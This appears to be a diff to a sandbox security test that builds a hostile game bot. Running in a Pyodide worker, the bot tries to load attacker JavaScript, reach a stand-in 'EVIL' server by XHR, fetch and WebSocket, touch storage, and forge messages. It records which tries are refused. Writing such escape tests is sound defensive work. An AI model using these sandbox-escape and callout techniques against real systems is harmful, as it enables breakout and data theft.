@@ -24,6 +24,7 @@ import pyodide.http
 from polyscript import xworker
 
 EVIL = "__EVIL__"
+SCRIPT = __SCRIPT__
 tried = []
 
 
@@ -35,35 +36,47 @@ def attempt(name, how):
         tried.append(f"{name}: refused ({type(exc).__name__})")
 
 
-SCRIPT = __SCRIPT__
-options = js.JSON.parse('{"type": "text/javascript"}')
-blob = js.URL.createObjectURL(js.Blob.new([SCRIPT], options))
-attempt("importJS blob", lambda: xworker.sync.importJS(blob, "attack"))
-attempt("importJS evil", lambda: xworker.sync.importJS(EVIL + "attack.js", "evil"))
-attempt("xhr", lambda: pyodide.http.open_url(EVIL + "xhr").read())
-attempt("fetch", lambda: js.fetch(EVIL + "worker-fetch"))
-attempt("websocket", lambda: js.WebSocket.new(EVIL.replace("http", "ws") + "worker-ws"))
-attempt("caches", lambda: js.caches.keys())
-attempt("opfs", lambda: js.navigator.storage.getDirectory())
-attempt("broadcast", lambda: js.BroadcastChannel.new("spygames").postMessage("pwned"))
-attempt("forged beat", lambda: xworker.postMessage("theirs 1"))
+def import_blob():
+    options = js.JSON.parse('{"type": "text/javascript"}')
+    blob = js.URL.createObjectURL(js.Blob.new([SCRIPT], options))
+    return xworker.sync.importJS(blob, "attack")
 
 
+# Python's own tries, in the Lab one a decision, each timed by the Lab's clock as a
+# decision of its own (made all at the top level, they once overran one decision's limit
+# under load); at a table, where the bot may have one decision only, at the top level.
+# The script on the sandbox's page last, so its report comes after them all.
+ATTEMPTS = [
+    ("importJS evil", lambda: xworker.sync.importJS(EVIL + "attack.js", "evil")),
+    ("xhr", lambda: pyodide.http.open_url(EVIL + "xhr").read()),
+    ("fetch", lambda: js.fetch(EVIL + "worker-fetch")),
+    ("websocket", lambda: js.WebSocket.new(EVIL.replace("http", "ws") + "worker-ws")),
+    ("caches", lambda: js.caches.keys()),
+    ("opfs", lambda: js.navigator.storage.getDirectory()),
+    ("broadcast", lambda: js.BroadcastChannel.new("spygames").postMessage("pwned")),
+    ("forged beat", lambda: xworker.postMessage("theirs 1")),
+    ("importJS blob", import_blob),
+]
+while __AT_ONCE__ and ATTEMPTS:
+    attempt(*ATTEMPTS.pop(0))
 calls = 0
 looked = 0.0
 
 
 def choose(view, legal, rng):
-    # The bot plays on until the script on the sandbox's page has posted its report (or
-    # for 300 decisions), then fails: so the report is on its way up the frames (sandbox,
-    # host, the Lab, a blog) before the page ends the sandbox, even on a busy machine (a
-    # clean run once lost it in the blog's frame). It looks at the page a few times a
-    # second, not at every decision: each look waits for the page's thread.
+    # After its tries the bot plays on until the script on the sandbox's page has posted
+    # its report (or for 300 decisions), then __AFTER__: so the report is on its way up the
+    # frames (sandbox, host, the Lab, a blog) before the page ends the sandbox, even on a
+    # busy machine (a clean run once lost it in the blog's frame). It looks at the page a
+    # few times a second, not at every decision: each look waits for the page's thread.
     global calls, looked
     calls += 1
+    if ATTEMPTS:
+        attempt(*ATTEMPTS.pop(0))
+        return legal[0]
     if calls < 300 and (time.monotonic() - looked < 0.25 or not done()):
         return legal[0]
-    raise RuntimeError("tried: " + " | ".join(tried))
+    __END__
 
 
 def done():
@@ -71,11 +84,20 @@ def done():
     looked = time.monotonic()
     return getattr(xworker.window, "spygamesAttackDone", False)
 """
+# How the bot ends once the report is on its way: fails, saying what Python's tries gave
+# (the Lab shows it), or plays on (at a table, its tries then made at the top level).
+FAIL = 'raise RuntimeError("tried: " + " | ".join(tried))'
+PLAY_ON = "return legal[0]"
 
 
-def hostile(evil: str, site: str) -> str:
+def hostile(evil: str, site: str, end: str = FAIL) -> str:
+    """The hostile bot's code: `evil` the attacker's server, `site` the site's root,
+    `end` what it does once its report is on its way (FAIL or PLAY_ON)."""
     script = ATTACK_JS.replace("__EVIL__", evil).replace("__SITE__", site)
-    return HOSTILE.replace("__EVIL__", evil).replace("__SCRIPT__", json.dumps(script))
+    after = "fails" if end == FAIL else "plays on"
+    code = HOSTILE.replace("__EVIL__", evil).replace("__SCRIPT__", json.dumps(script))
+    code = code.replace("__AT_ONCE__", str(end == PLAY_ON))
+    return code.replace("__AFTER__", after).replace("__END__", end)
 
 
 class Listener:
